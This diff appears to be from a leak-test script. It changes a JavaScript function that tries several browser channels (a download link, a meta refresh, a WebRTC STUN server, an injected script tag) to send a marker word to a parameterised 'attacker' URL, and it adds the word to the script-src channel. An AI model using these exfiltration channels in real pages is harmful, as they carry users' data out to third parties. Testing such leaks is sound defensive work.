@@ -1,6 +1,5 @@
-// Tries to get a word out of a page in every way that a script has. Run in the page, with the attacker's address.
-async (attacker) => {
-  const word = "Camille-Exemple";
+// Tries to get a word out of a page in every way that a script has. Run in the page.
+async ({ attacker, word }) => {
   const tried = [];
   const attempt = async (name, act) => {
     try {
@@ -44,7 +43,7 @@ async (attacker) => {
   await attempt("download", () => added("a", { href: `${attacker}/leak-download?name=${word}`, download: "x" }).click());
   await attempt("refresh", () => added("meta", { "http-equiv": "refresh", content: `0;url=${attacker}/leak-refresh?name=${word}` }));
   await attempt("peer", () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(attacker).host}` }] }));
-  await attempt("script", () => { const script = document.createElement("script"); script.src = `${attacker}/leak-script`; document.body.append(script); });
+  await attempt("script", () => { const script = document.createElement("script"); script.src = `${attacker}/leak-script?name=${word}`; document.body.append(script); });
   await attempt("eval", () => { (0, eval)("1"); tried.push("eval ran"); });
   await attempt("markup", () => { document.body.innerHTML += "<b>x</b>"; tried.push("markup ran"); });
   return tried;
